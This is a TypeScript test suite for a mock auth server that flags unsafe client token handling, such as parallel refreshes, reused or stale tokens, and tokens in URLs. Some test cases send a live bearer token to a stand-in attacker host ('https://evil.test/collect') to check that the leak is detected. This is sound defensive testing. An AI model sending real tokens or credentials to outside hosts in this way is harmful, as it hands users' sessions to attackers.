// Client rules: each rule with clients that break it, and with similar clients that do not.
import { createMockAuthServer, MockViolationError } from 'everbearer/mock'
import { createHandlers } from 'everbearer/mock/msw'
import { getResponse } from 'msw'
import { describe, expect, it } from 'vitest'
import {
  base,
  claimsOf,
  createServerWithClock,
  json,
  type OneCookieBrowser,
  openBrowser,
  overWire
} from '../../support/setups/one-cookie-browser.ts'

type Server = ReturnType<typeof createServerWithClock>['server']

interface Scene {
  readonly server: Server
  readonly ada: OneCookieBrowser
  readonly token: string
  /** Advances the clock of the server. */
  pass(seconds: number): void
}

async function setUp(): Promise<Scene> {
  const { server, clock } = createServerWithClock({
    refreshGraceSeconds: 10,
    refreshIdleSeconds: 86_400
  })
  const ada = openBrowser(overWire(server))
  const { token } = await ada.login()
  return { server, ada, token, pass: clock.advanceSeconds }
}

const rules = ({ server }: Scene) => server.violations.map(({ rule }) => rule)
const repeat = async (times: number, act: () => Promise<unknown>): Promise<void> => {
  for (let time = 0; time < times; time += 1) await act()
}
const post = (scene: Scene, path: string, extra: object = {}) =>
  scene.server.handle({ method: 'POST', url: base + path, headers: [json], body: '{}', ...extra })

type Story = readonly [name: string, act: (scene: Scene) => Promise<unknown>]

const stories: Readonly<Record<string, { bad: readonly Story[]; good: readonly Story[] }>> = {
  'parallel-refresh': {
    bad: [
      ['two refreshes at once', ({ ada }) => Promise.all([ada.refresh(), ada.refresh()])],
      [
        'two refreshes at once with different idempotency keys',
        ({ ada }) => Promise.all([ada.refresh('one'), ada.refresh('two')])
      ],
      [
        'a second refresh while a gate holds the first',
        async ({ server, ada }) => {
          const gate = server.hold('refresh')
          const both = [ada.refresh(), ada.refresh()]
          await gate.arrived(2)
          gate.release()
          await Promise.all(both)
        }
      ]
    ],
    good: [
      [
        'two refreshes one after the other',
        async ({ ada }) => {
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'two refreshes at once with the same idempotency key',
        ({ ada }) => Promise.all([ada.refresh('same'), ada.refresh('same')])
      ],
      [
        'refreshes of two sessions at once',
        async ({ server, ada }) => {
          const other = openBrowser(overWire(server))
          await other.login()
          await Promise.all([ada.refresh(), other.refresh()])
        }
      ],
      [
        'a retry while the first refresh hangs',
        async ({ server, ada, pass }) => {
          const abort = new AbortController()
          server.failNext('refresh', 'hang', { after: 'commit' })
          const cookie = `refresh_token=${ada.cookie}`
          const hanging = server.handle({
            method: 'POST',
            url: `${base}/refresh`,
            headers: [json, ['Cookie', cookie]],
            signal: abort.signal
          })
          await server.idle()
          pass(5)
          await ada.refresh()
          abort.abort()
          await hanging
        }
      ]
    ]
  },
  'spent-refresh-token': {
    bad: [
      [
        'the previous refresh token within the grace period',
        async ({ ada }) => {
          const spent = ada.cookie
          await ada.refresh()
          ada.cookie = spent
          await ada.refresh()
        }
      ],
      [
        'the previous refresh token after the grace period',
        async ({ ada, pass }) => {
          const spent = ada.cookie
          await ada.refresh('one')
          pass(20)
          ada.cookie = spent
          await ada.refresh('two')
        }
      ]
    ],
    good: [
      [
        'the previous refresh token if the response was lost',
        async ({ server, ada }) => {
          server.failNext('refresh', 'network', { after: 'commit' })
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'the previous refresh token if the response was lost long ago',
        async ({ server, ada, pass }) => {
          server.failNext('refresh', 'network', { after: 'commit' })
          await ada.refresh()
          pass(20)
          await ada.refresh()
        }
      ],
      [
        'the previous refresh token if a fault replaced the response after the commit',
        async ({ server, ada }) => {
          server.failNext('refresh', 503, { after: 'commit' })
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'the previous refresh token with the same idempotency key, as after a crash of the page',
        async ({ ada }) => {
          const spent = ada.cookie
          await ada.refresh('attempt')
          ada.cookie = spent
          await ada.refresh('attempt')
        }
      ]
    ]
  },
  'refresh-without-credentials': {
    bad: [
      [
        'a refresh without the cookie after a login',
        async ({ ada }) => {
          ada.cookie = undefined
          await ada.refresh()
        }
      ],
      [
        'a refresh of a second browser on the same origin, which looks like the first',
        ({ server }) => openBrowser(overWire(server)).refresh()
      ],
      [
        'a refresh with the credentials mode omit',
        (scene) => post(scene, '/refresh', { credentials: 'omit' })
      ],
      [
        'a cross-origin refresh with the credentials mode same-origin',
        (scene) =>
          post(scene, '/refresh', {
            credentials: 'same-origin',
            headers: [json, ['Origin', 'http://localhost:3000']]
          })
      ]
    ],
    good: [
      [
        'a refresh without the cookie after a logout',
        async ({ ada }) => {
          await ada.logout()
          await ada.refresh()
        }
      ],
      [
        'a refresh without the cookie after the end of the session',
        async ({ ada, pass }) => {
          pass(604_800)
          ada.cookie = undefined
          await ada.refresh()
        }
      ],
      [
        'a refresh after the response to an idle session deleted the cookie',
        async ({ ada, pass }) => {
          pass(86_400)
          await ada.refresh()
          await ada.refresh()
        }
      ],
      [
        'a refresh after a fault replaced the response to the login',
        async ({ server }) => {
          const other = openBrowser(overWire(server, 'http://localhost:4001'))
          server.failNext('login', 503, { after: 'commit' })
          await other.login()
          await other.refresh()
        }
      ],
      [
        'a refresh from another origin without a login',
        (scene) => post(scene, '/refresh', { headers: [json, ['Origin', 'http://localhost:3000']] })
      ]
    ]
  },
  'retry-storm': {
    bad: [
      [
        'six failed refreshes within ten seconds',
        async ({ server, ada }) => {
          server.failNext('refresh', 503, { times: 6 })
          await repeat(6, () => ada.refresh())
        }
      ],
      [
        'four refreshes in a row although each new token was refused',
        async ({ server, ada }) => {
          await repeat(4, async () => {
            const { token } = await ada.refresh()
            server.failNext('api', 401, { after: 'commit' })
            await ada.me(token)
          })
        }
      ]
    ],
    good: [
      [
        'six failed refreshes over a minute',
        async ({ server, ada, pass }) => {
          server.failNext('refresh', 503, { times: 6 })
          await repeat(6, async () => {
            await ada.refresh()
            pass(10)
          })
        }
      ],
      [
        'twenty page loads without a session',
        async ({ server }) => {
          await repeat(20, () => openBrowser(overWire(server, 'http://localhost:4001')).refresh())
        }
      ],
      [
        'twenty page loads with a cookie from before a reset',
        async ({ server, ada: { cookie } }) => {
          server.reset()
          await repeat(20, async () => {
            const page = openBrowser(overWire(server))
            page.cookie = cookie
            await page.refresh()
          })
        }
      ],
      [
        'twenty successful refreshes',
        async ({ ada }) => {
          await repeat(20, async () => ada.me((await ada.refresh()).token))
        }
      ]
    ]
  },
  'use-after-logout': {
    bad: [
      [
        'a refresh with the old cookie after the logout',
        async ({ ada }) => {
          const { cookie } = ada
          await ada.logout()
          ada.cookie = cookie
          await ada.refresh()
        }
      ],
      [
        'an access token more than five seconds after the logout',
        async ({ ada, token, pass }) => {
          await ada.logout()
          pass(6)
          await ada.me(token)
        }
      ]
    ],
    good: [
      [
        'an access token within five seconds after the logout',
        async ({ ada, token, pass }) => {
          await ada.logout()
          pass(4)
          await ada.me(token)
        }
      ],
      [
        'a client that did not receive the response to its logout',
        async ({ server, ada, token, pass }) => {
          const { cookie } = ada
          server.failNext('logout', 'network', { after: 'commit' })
          await ada.logout()
          ada.cookie = cookie
          await ada.refresh()
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'the tokens of the next session',
        async ({ ada, pass }) => {
          await ada.logout()
          pass(60)
          const { token } = await ada.login()
          await ada.me(token)
          await ada.refresh()
        }
      ]
    ]
  },
  'stale-access-token': {
    bad: [
      [
        'the old token more than five seconds after the new one was delivered',
        async ({ ada, token, pass }) => {
          await ada.refresh()
          pass(6)
          await ada.me(token)
        }
      ],
      [
        'a minted token more than five seconds after a newer one was delivered',
        async ({ server, ada, token, pass }) => {
          const made = await server.mint({ sid: claimsOf(token).sid ?? '' })
          await ada.refresh()
          pass(6)
          await ada.me(made)
        }
      ],
      [
        'a token of server.signIn() more than five seconds after a newer one was delivered',
        async ({ server, ada, pass }) => {
          const { accessToken, refreshToken } = await server.signIn()
          ada.cookie = refreshToken
          await ada.refresh()
          pass(6)
          await ada.me(accessToken)
        }
      ]
    ],
    good: [
      [
        'the old token within five seconds after the new one was delivered',
        async ({ ada, token, pass }) => {
          await ada.refresh()
          pass(5)
          await repeat(200, () => ada.me(token))
        }
      ],
      [
        'the old token if the response with the new one was lost',
        async ({ server, ada, token, pass }) => {
          server.failNext('refresh', 'network', { after: 'commit' })
          await ada.refresh()
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'two tokens that were requested at once',
        async ({ ada, pass }) => {
          const [one, two] = await Promise.all([ada.refresh('a'), ada.refresh('a')])
          pass(60)
          await ada.me(one.token)
          await ada.me(two.token)
        }
      ],
      [
        'the old token if a fault replaced the response with the new one',
        async ({ server, ada, token, pass }) => {
          server.failNext('refresh', 503, { after: 'commit' })
          await ada.refresh()
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'a token that was minted after the new one was delivered',
        async ({ server, ada, token, pass }) => {
          await ada.refresh()
          pass(60)
          await ada.me(await server.mint({ sid: claimsOf(token).sid ?? '' }))
        }
      ],
      [
        'a forged token that was minted before or after the new one',
        async ({ server, ada, token, pass }) => {
          const sid = claimsOf(token).sid ?? ''
          const early = await server.mint({ sid, forgery: 'expired' })
          await ada.refresh()
          pass(60)
          await ada.me(early)
          await ada.me(await server.mint({ sid, forgery: 'expired' }))
        }
      ]
    ]
  },
  'ignored-reissue': {
    bad: [
      [
        'the token of the old key more than five seconds after the re-issue',
        async ({ server, ada, token, pass }) => {
          server.rotateKey()
          await ada.me(token)
          pass(6)
          await ada.me(token)
        }
      ]
    ],
    good: [
      [
        'only the re-issued token',
        async ({ server, ada, token, pass }) => {
          server.rotateKey()
          const answer = await ada.me(token)
          pass(60)
          await ada.me(answer.header('authorization')?.slice(7))
        }
      ],
      [
        'the token of the old key if a fault replaced the response with the re-issue',
        async ({ server, ada, token, pass }) => {
          server.rotateKey()
          server.failNext('api', 500, { after: 'commit' })
          await ada.me(token)
          pass(60)
          await ada.me(token)
        }
      ],
      [
        'a burst of calls with the token of the old key',
        async ({ server, ada, token }) => {
          server.rotateKey()
          await Promise.all(Array.from({ length: 200 }, () => ada.me(token)))
        }
      ]
    ]
  },
  'bearer-to-foreign-origin': {
    bad: [
      [
        'a call to another origin, seen by msw',
        ({ server, token }) => pass(server, 'https://evil.test/collect', token)
      ],
      [
        'a call to another origin with a token of a retired key',
        async ({ server, token }) => {
          server.rotateKey()
          server.retireKey()
          await pass(server, 'https://evil.test/collect', token)
        }
      ]
    ],
    good: [
      [
        'a call to another mock server with a token of that server',
        async ({ server }) => {
          const other = createMockAuthServer()
          const { accessToken } = await other.signIn()
          await pass(server, 'https://other.test/me', accessToken)
        }
      ],
      [
        'a call to another origin with a foreign token',
        ({ server }) => pass(server, 'https://other.test/', 'opaque')
      ],
      [
        'a call to another origin on which a guarded handler answers',
        async ({ server, token }) => {
          const url = 'https://api.test/todos'
          await pass(server, url, token)
          await server.guard(
            { method: 'GET', url, headers: [['Authorization', `Bearer ${token}`]] },
            () => ({ status: 200, headers: [], setCookies: [], body: '' })
          )
        }
      ]
    ]
  },
  'token-in-url': {
    bad: [
      [
        'a token in the query',
        ({ server, token }) =>
          server.handle({ method: 'GET', url: `${base}/me?access_token=${token}`, headers: [] })
      ],
      [
        'a token in the path',
        ({ server, token }) =>
          server.handle({ method: 'GET', url: `${base}/files/${token}`, headers: [] })
      ],
      [
        'a token in the URL of an unguarded handler, seen by msw',
        ({ server, token }) => look(server, `${base}/events?access_token=${token}`)
      ],
      [
        'a token in the URL of a route of the server, also seen by msw',
        ({ server, token }) => look(server, `${base}/me?access_token=${token}`)
      ]
    ],
    good: [
      [
        'an access_token parameter of another service',
        ({ server }) => look(server, 'https://maps.test/?access_token=pk.eyJ1IjoibWFwcyJ9.c2lnbg')
      ],
      [
        'parameters with similar names',
        ({ server }) =>
          server.handle({ method: 'GET', url: `${base}/me?page_token=7&code=1`, headers: [] })
      ]
    ]
  },
  'reissue-hidden': {
    bad: [],
    good: [
      [
        'a cross-origin re-issue whose header is exposed',
        async ({ server, token }) => {
          server.rotateKey()
          await server.handle({
            method: 'GET',
            url: `${base}/me`,
            headers: [
              ['Origin', 'http://localhost:3000'],
              ['Authorization', `Bearer ${token}`]
            ]
          })
        }
      ]
    ]
  },
  'cors-blocked': {
    bad: [
      [
        'a preflight that the server refuses',
        ({ server }) =>
          server.handle({
            method: 'OPTIONS',
            url: `${base}/me`,
            headers: [
              ['Origin', 'https://evil.test'],
              ['Access-Control-Request-Method', 'GET']
            ]
          })
      ]
    ],
    good: [
      [
        'a preflight that the server accepts',
        ({ server }) =>
          server.handle({
            method: 'OPTIONS',
            url: `${base}/me`,
            headers: [
              ['Origin', 'http://localhost:3000'],
              ['Access-Control-Request-Method', 'GET']
            ]
          })
      ]
    ]
  }
}

function pass(server: Server, url: string, token: string) {
  return look(server, url, { authorization: `Bearer ${token}` })
}

function look(server: Server, url: string, headers: Record<string, string> = {}) {
  const handlers = createHandlers(server, { baseURL: base })
  return getResponse(handlers, new Request(url, { headers }))
}

describe.each(Object.entries(stories))('the rule %s', (rule, { bad, good }) => {
  if (bad.length > 0) {
    it.each(bad)(`${rule} is broken by %s`, async (_name, act) => {
      const scene = await setUp()
      await act(scene)
      expect(rules(scene)).toEqual([rule])
    })
  }
  it.each(good)(`${rule} is not broken by %s`, async (_name, act) => {
    const scene = await setUp()
    await act(scene)
    expect(rules(scene)).toEqual([])
  })
})

describe('assertNoViolations', () => {
  it('does not throw if no rule is broken', async () => {
    const { server, ada } = await setUp()
    await ada.refresh()
    server.assertNoViolations()
  })

  it('throws an error with the rule, the time, the message and the calls of each violation', async () => {
    const { server, ada, token } = await setUp()
    await Promise.all([ada.refresh(), ada.refresh()])
    await server.handle({ method: 'GET', url: `${base}/me?access_token=${token}`, headers: [] })
    const { assertNoViolations } = server

    let thrown: unknown
    try {
      assertNoViolations()
    } catch (error) {
      thrown = error
    }
    expect(thrown).toBeInstanceOf(MockViolationError)
    const { message, violations } = thrown as MockViolationError
    expect(message).toBe(
      [
        'assertNoViolations(): found 2 violations of the client rules',
        '',
        'parallel-refresh at 2030-01-01T00:00:00.000Z: the client had 2 refreshes of one session in flight at once, which a server may treat as token theft',
        '  #1 POST /refresh 200 rotated (user-1)',
        '  #2 POST /refresh 200 replayed (user-1)',
        '',
        'token-in-url at 2030-01-01T00:00:00.000Z: the client put a token into a URL, which histories, logs and Referer headers expose',
        '  #3 GET /me?access_token=… 401 missing_token'
      ].join('\n')
    )
    expect(violations.map(({ rule, calls }) => [rule, calls.map(({ index }) => index)])).toEqual([
      ['parallel-refresh', [1, 2]],
      ['token-in-url', [3]]
    ])
    expect(message).not.toContain(token)
  })

  it('lists at most eight calls of a violation', async () => {
    const { server, ada, token, pass: wait } = await setUp()
    await ada.refresh()
    wait(60)
    await repeat(30, () => ada.me(token))
    expect(() => server.assertNoViolations()).toThrow(/and 22 more$/)
  })

  it('skips the rules listed in except', async () => {
    const { server, ada } = await setUp()
    await Promise.all([ada.refresh(), ada.refresh()])
    server.assertNoViolations({ except: ['parallel-refresh'] })
    expect(() => server.assertNoViolations({ except: ['token-in-url'] })).toThrow(
      /^assertNoViolations\(\): found 1 violation of the client rules\n\nparallel-refresh/
    )
  })

  it('reports a call one second after a refresh only if inFlightSeconds is 0', async () => {
    const { server, ada, token, pass: wait } = await setUp()
    await ada.refresh()
    wait(1)
    await ada.me(token)
    server.assertNoViolations()
    expect(() => server.assertNoViolations({ inFlightSeconds: 0 })).toThrow(/stale-access-token/)
  })

  it.each([
    ['a refresh', 'stale-access-token', ({ ada }: Scene) => ada.refresh()],
    [
      'a re-issue',
      'ignored-reissue',
      ({ server, ada, token }: Scene) => {
        server.rotateKey()
        return ada.me(token)
      }
    ],
    ['a logout', 'use-after-logout', ({ ada }: Scene) => ada.logout()]
  ])(
    'with inFlightSeconds 0, reports the old token after %s even if no time has passed',
    async (_name, rule, act) => {
      const scene = await setUp()
      await act(scene)
      await scene.ada.me(scene.token)
      scene.server.assertNoViolations()
      expect(() => scene.server.assertNoViolations({ inFlightSeconds: 0 })).toThrow(rule)
    }
  )

  it('reports no violation from before a reset', async () => {
    const scene = await setUp()
    await Promise.all([scene.ada.refresh(), scene.ada.refresh()])
    await pass(scene.server, 'https://evil.test/', scene.token)
    expect(rules(scene)).toHaveLength(2)
    scene.server.reset()
    expect(rules(scene)).toEqual([])
  })
})

it('reports a token in a URL once, with the token redacted from the path', async () => {
  const { server, token } = await setUp()
  await look(server, `${base}/me?access_token=${token}`)
  await look(server, `${base}/events?access_token=${token}`)
  const [violation] = server.violations
  expect(violation?.calls.map(({ path }) => path)).toEqual([
    '/me?access_token=…',
    '/events?access_token=…'
  ])
})

it('reports two violations for a token in a URL of another origin, with the token redacted', async () => {
  const scene = await setUp()
  await look(scene.server, `https://evil.test/${scene.token}`)
  expect(rules(scene).sort()).toEqual(['bearer-to-foreign-origin', 'token-in-url'])
  expect(JSON.stringify(scene.server.violations)).not.toContain(scene.token)
})

it('a request to another origin stays unhandled, so msw can report it', async () => {
  const server = createMockAuthServer()
  const { token } = await openBrowser(overWire(server)).login()
  expect(await pass(server, 'https://evil.test/', token)).toBeUndefined()
})
